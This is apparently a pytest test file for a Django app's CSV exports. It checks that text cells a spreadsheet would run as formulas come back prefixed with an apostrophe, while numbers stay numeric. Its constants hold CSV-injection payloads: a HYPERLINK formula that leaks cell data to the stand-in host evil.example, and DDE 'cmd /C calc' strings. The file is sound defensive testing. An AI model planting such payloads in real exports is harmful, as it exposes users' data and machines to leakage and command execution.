"""Every CSV the product serves is safe to open in a spreadsheet (issue 36): a text cell a
spreadsheet would run as a formula (a metric key or policy name from a run's token, a
group label from a free-text config field) comes back with a leading ``'``, while the
numbers, negative ones included, still read as numbers."""

from __future__ import annotations

import csv
import io
import math
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from tests.conftest import pool_config
from tests.webapp.compare.test_compare_support import POLICIES, add_series, make_runs
from tests.webapp.metrics.test_api_support import point, post_batch
from webapp.runs.models import Run

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, CALC, SUM, "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
"""One formula per dangerous first character (=, +, @, -, tab, carriage return)."""
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
TRAIN, ALPHA = "train/reward_mean", "eval/synthetic/alpha/accuracy"


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def safe_rows(body: str) -> list[dict[str, str]]:
    """The rows of a served CSV, once no cell of it would run as a formula."""
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert [cell for cell in cells if cell.startswith(DANGEROUS) and not is_number(cell)] == []
    return list(csv.DictReader(io.StringIO(body)))


def streamed(response: Any) -> str:
    assert response.status_code == 200, response
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content).decode()


def served(response: Any) -> str:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return response.content.decode()


# --------------------------------------------------------------------------- run CSVs


@pytest.fixture
def formula_run(client: Client, run: Run, token: str) -> Run:
    """Each formula logged as a metric key (policy a, value -0.5 at step 1) and as a
    policy name (key train/reward_mean, value -1e-05 at step 2); a NaN and a -Infinity."""
    points = [point(1, -0.5, key=formula) for formula in FORMULAS]
    points += [point(2, -1e-05, policy=formula, key=TRAIN) for formula in FORMULAS]
    points += [point(3, "NaN", key=TRAIN), point(4, "-Infinity", key=TRAIN)]
    response = post_batch(client, run, token, {"points": points})
    assert response.status_code == 200, response.content  # the ingest API accepts them all
    return run


def test_the_ingest_api_stores_formula_keys_and_policies_as_sent(formula_run: Run) -> None:
    series = set(formula_run.series.values_list("policy", "key"))
    assert {("a", formula) for formula in FORMULAS} <= series
    assert {(formula, TRAIN) for formula in FORMULAS} <= series


def test_the_whole_run_csv_defuses_formula_keys_and_policies(
    client: Client, alice: User, formula_run: Run
) -> None:
    client.force_login(alice)
    url = reverse("metrics:run_curves_csv", args=[formula_run.pk])
    rows = safe_rows(streamed(client.get(url)))
    by_key = {row["key"]: row for row in rows if row["policy"] == "a" and row["step"] == "1"}
    by_policy = {row["policy"]: row for row in rows if row["key"] == TRAIN and row["step"] == "2"}
    for formula in FORMULAS:
        assert by_key["'" + formula]["value"] == "-0.5"
        assert by_policy["'" + formula]["value"] == "-1e-05"
    written = {row["key"] for row in rows} | {row["policy"] for row in rows}
    assert not written & set(FORMULAS)
    values = [float(row["value"]) for row in rows]
    assert -0.5 in values and -1e-05 in values and -math.inf in values
    assert any(math.isnan(value) for value in values)


def test_the_metric_csv_defuses_formula_policies_and_keeps_numbers(
    client: Client, alice: User, formula_run: Run
) -> None:
    client.force_login(alice)
    url = reverse("metrics:run_metric_csv", args=[formula_run.pk])
    rows = safe_rows(streamed(client.get(url, {"key": TRAIN})))
    not_in_pool = sorted(FORMULAS)  # after the pool's policies, by name
    assert [(row["step"], row["policy"], row["value"]) for row in rows] == [
        *[("2", "'" + formula, "-1e-05") for formula in not_in_pool],
        ("3", "a", "NaN"),
        ("4", "a", "-Infinity"),
    ]
    for formula in FORMULAS:
        [row] = safe_rows(streamed(client.get(url, {"key": formula})))
        assert row == {"step": "1", "policy": "a", "value": "-0.5"}
        assert float(row["value"]) == -0.5


# --------------------------------------------------------------------------- comparisons


def runs_with_chat_template(owner: User, regime: str, chat_template: str) -> list[Run]:
    """Two seeds of a fresh experiment whose first policy has ``chat_template``."""
    pool = pool_config()["pool"]
    pool[0] = {**pool[0], "chat_template": chat_template}
    return make_runs(owner, regime, pool=pool)


@pytest.fixture
def grouped(alice: User) -> list[Run]:
    """Grouped by the first policy's chat template: HYPERLINK (sgt runs 0, 1) and CALC
    (standalone runs 2, 3). Every policy logs train reward -1 - s/20 - i/10 (steps
    0..20) and synthetic/alpha accuracy 0.1 at step 0 and 0.2 + i/10 at step 10."""
    runs = runs_with_chat_template(alice, "sgt", HYPERLINK)
    runs += runs_with_chat_template(alice, "standalone", CALC)
    for i, run in enumerate(runs):
        for policy in POLICIES:
            add_series(run, policy, TRAIN, range(21), lambda s, i=i: -1 - s / 20 - i / 10)
            add_series(run, policy, ALPHA, (0, 10), lambda s, i=i: 0.1 if s == 0 else 0.2 + i / 10)
    return runs


def spec(runs: list[Run], **extra: str) -> dict[str, str]:
    ids = ",".join(str(run.pk) for run in runs)
    return {"runs": ids, "group_by": "pool.0.chat_template", "metric": TRAIN, **extra}


def test_the_data_csv_defuses_group_labels_and_keeps_negative_numbers(
    client: Client, alice: User, grouped: list[Run]
) -> None:
    client.force_login(alice)
    rows = safe_rows(served(client.get(reverse("compare:export", args=["csv"]), spec(grouped))))
    assert {row["group"] for row in rows} == {"'" + HYPERLINK, "'" + CALC}
    for row in rows:
        for column in ("mean", "lower", "upper", "raw_mean"):
            assert float(row[column]) < 0, (column, row)
        assert float(row["x"]) >= 0 and int(row["n"]) == 2


def test_the_table_csv_defuses_group_labels_and_keeps_negative_numbers(
    client: Client, alice: User, grouped: list[Run]
) -> None:
    client.force_login(alice)
    query = spec(grouped, table_metric=TRAIN)
    rows = safe_rows(served(client.get(reverse("compare:table", args=["csv"]), query)))
    assert len(rows) == len(POLICIES) * 2 * 3  # policies x groups x statistics
    assert {row["group"] for row in rows} == {"'" + HYPERLINK, "'" + CALC}
    for row in rows:
        assert float(row["mean"]) < 0 and float(row["std"]) >= 0 and int(row["n"]) == 2


def bars_csv(client: Client, runs: list[Run], **extra: str) -> list[dict[str, str]]:
    response = client.get(reverse("compare:bars_file", args=["csv"]), spec(runs, **extra))
    return safe_rows(served(response))


def test_the_per_task_bars_csv_defuses_group_labels(
    client: Client, alice: User, grouped: list[Run]
) -> None:
    client.force_login(alice)
    rows = bars_csv(client, grouped, view="tasks")
    assert {row["group"] for row in rows} == {"'" + HYPERLINK, "'" + CALC}
    assert {row["x"] for row in rows} == {"alpha"}
    for row in rows:
        assert float(row["mean"]) > 0 and float(row["base"]) == pytest.approx(0.1)


def test_the_relative_bars_csv_defuses_group_labels_and_keeps_negative_numbers(
    client: Client, alice: User, grouped: list[Run]
) -> None:
    """Baseline CALC: train reward -2.2 and -2.3 at step 20, b = -2.25; HYPERLINK's -2.0
    and -2.1 improve by (0.25 + 0.15) / 2 / 2.25 = 8.9 %."""
    client.force_login(alice)
    rows = bars_csv(client, grouped, view="relative", baseline=CALC)
    assert [row["group"] for row in rows] == ["'" + HYPERLINK] * len(POLICIES)
    for row in rows:
        assert float(row["mean"]) == pytest.approx(0.2 / 2.25 * 100)
        assert float(row["base"]) == pytest.approx(-2.25)
